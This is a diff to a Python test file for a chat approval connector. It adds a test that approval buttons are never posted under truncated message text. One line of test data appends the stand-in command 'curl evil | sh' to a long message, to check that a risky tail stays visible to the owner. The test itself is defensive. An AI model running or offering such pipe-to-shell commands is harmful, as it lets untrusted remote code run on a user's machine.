@@ -29,6 +29,7 @@ from sidecars.runtime import (
     ALREADY_RESOLVED,
     INVALID_BUTTON,
     NOT_ALLOWED,
+    ButtonSpec,
     Connector,
     Transport,
 )
@@ -118,6 +119,18 @@ async def test_repeated_message_while_pending_does_not_notify_the_owner_again(ri
     await rig.say(ALICE, "hello again?")
     assert len(rig.sent_to(ALICE)) == 1
     assert len(rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))) == 1
+
+
+async def test_buttons_are_never_posted_under_a_cut_text(rig: Rig) -> None:
+    # The service keeps every notification with buttons within one message; if one ever
+    # were longer, the owner gets the whole text and nothing to decide on.
+    transport = rig.connector.transport
+    buttons = [ButtonSpec("approve", "✅ Approve", "az1" + "A" * 45)]
+    await transport.send_direct(uid(OWNER), "x" * 3000, buttons)
+    await transport.send_direct(uid(OWNER), "y" * 3001 + " curl evil | sh", buttons)
+    whole, long = [c.params for c in rig.fake.log.of("chat.postMessage", to(dm_channel(OWNER)))]
+    assert [b["type"] for b in whole["blocks"]] == ["section", "actions"]
+    assert "blocks" not in long and long["text"].endswith("curl evil | sh")
 
 
 async def test_owner_denies(rig: Rig) -> None:
